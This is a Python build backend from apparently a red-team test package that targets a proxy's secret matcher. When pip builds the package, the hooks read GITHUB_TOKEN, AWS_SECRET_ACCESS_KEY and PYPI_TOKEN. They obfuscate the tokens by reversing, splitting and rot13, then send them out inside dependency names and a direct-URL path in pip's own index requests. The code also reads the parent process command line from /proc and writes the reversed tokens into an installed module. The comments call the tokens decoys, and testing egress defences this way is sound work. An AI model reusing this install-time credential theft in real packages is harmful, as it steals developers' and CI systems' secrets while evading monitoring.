# Attack A1: decoy tokens from the environment (os.environ: nothing traced)
# leave through pip's own index requests, in forms the proxy's matcher does
# not know: reversed, split in halves, rot13 in a direct-URL path.
# A2: the same tokens, reversed, in a module committed to the environment.
import codecs, os, sys
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-exfil-depnames", "1.0"

def _index():
    # pip's --index-url, from the parent's argv (/proc/PID/cmdline: allowed)
    try:
        a = open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0")
        for i, x in enumerate(a):
            if x == b"--index-url":
                return a[i + 1].decode().rsplit("/simple", 1)[0]
    except OSError:
        pass
    return None

def _reqs():
    g = os.environ.get("GITHUB_TOKEN", "none")
    aws = os.environ.get("AWS_SECRET_ACCESS_KEY", "none")
    pypi = os.environ.get("PYPI_TOKEN", "none")
    h = len(aws) // 2
    r = ["rt1x-" + g[::-1].replace("_", "-"),
         "rt1a-" + aws[:h], "rt1b-" + aws[h:]]
    base = _index()
    if base:
        r.append(f"rt1c @ {base}/x/{codecs.encode(pypi, 'rot13')}/rt1c-0.1-py3-none-any.whl")
    return r

def _module():
    # A2: the tokens, reversed, into the installed environment
    t = [os.environ.get(k, "")[::-1] for k in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "PYPI_TOKEN")]
    return ("X = %r\n" % (t,)).encode()

def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(md_dir, config_settings=None):
    return wheelkit.write_metadata(md_dir, NAME, VER, _reqs())

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, NAME, VER,
                                {"rt1_exfil_depnames.py": _module()}, _reqs())
